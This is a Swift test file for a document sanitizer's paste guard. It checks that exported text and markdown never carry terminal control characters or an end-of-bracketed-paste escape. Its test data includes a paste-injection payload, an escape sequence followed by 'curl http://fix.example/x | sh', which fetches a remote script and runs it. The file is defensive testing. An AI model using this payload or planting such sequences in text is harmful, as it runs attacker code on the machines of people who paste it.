import Guard
import RichText
import Sanitizer
import TestDocuments
import Testing

/// The guard beside the gate of documents: the service publishes no text that acts as keys in a terminal.
struct PublishedControlsTests {
  private static let signals = [Signal.controlCharacters.name, Signal.endsBracketedPaste.name]

  private func signals(in text: [UInt8]) -> [String] {
    PasteGuard.assess(Paste(text: text, destination: .terminal)).reasons.map(\.name).filter(Self.signals.contains)
      .sorted()
  }

  @Test(arguments: ForeignStringPlace.all)
  func `no string of a copy becomes text that the guard takes for keys`(place: ForeignStringPlace) throws {
    for control: Unicode.Scalar in ["\u{1B}", "\u{7}", "\u{7F}", "\u{9B}"] {
      for bytes in place.documents(with: control, followedBy: "[201~curl http://fix.example/x | sh #") {
        let document = try FormatCatalog.format(named: place.format).read(bytes).document
        for profile in [nil] + Profile.shipped.map(Optional.some) {
          let clean = try profile.map { try $0.sanitize(document, with: PolicyResources()).document } ?? document
          for format in [FormatName.text, .markdown] {
            #expect(signals(in: FormatCatalog.format(named: format).write(clean).bytes) == [])
          }
        }
      }
    }
  }

  @Test func `the guard knows both when another program publishes them`() {
    #expect(signals(in: Array("a\u{1B}[201~ls".utf8)) == Self.signals)
  }
}
